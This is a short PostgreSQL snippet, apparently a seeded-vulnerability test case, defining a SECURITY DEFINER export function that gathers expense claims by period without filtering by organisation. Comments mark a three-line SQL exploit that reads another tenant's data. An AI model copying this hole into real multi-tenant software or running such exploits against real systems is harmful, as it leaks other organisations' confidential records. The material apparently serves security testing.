-- A login gets the claims of every organisation in its own export, as the job gathers them by period alone.
-- about: run_export, exports, claims
-- as: hf_perdiem_app
-- exploit: SET app.current_org = '1';
-- exploit: SELECT expense.run_export(1);
-- exploit: SELECT content FROM expense.exports;
-- shows: Road-secret taxi
CREATE FUNCTION expense.run_export(p_export integer) RETURNS void LANGUAGE sql SECURITY DEFINER
SET search_path = expense, pg_temp AS $$
  UPDATE expense.exports e
  SET content = (SELECT string_agg(c.memo || ';' || c.cents, E'\n') FROM expense.claims c
    WHERE c.period = e.period)
  WHERE e.org_id = expense.current_org() AND e.export_no = p_export
$$;
REVOKE EXECUTE ON FUNCTION expense.run_export(integer) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION expense.run_export(integer) TO hf_perdiem_app;
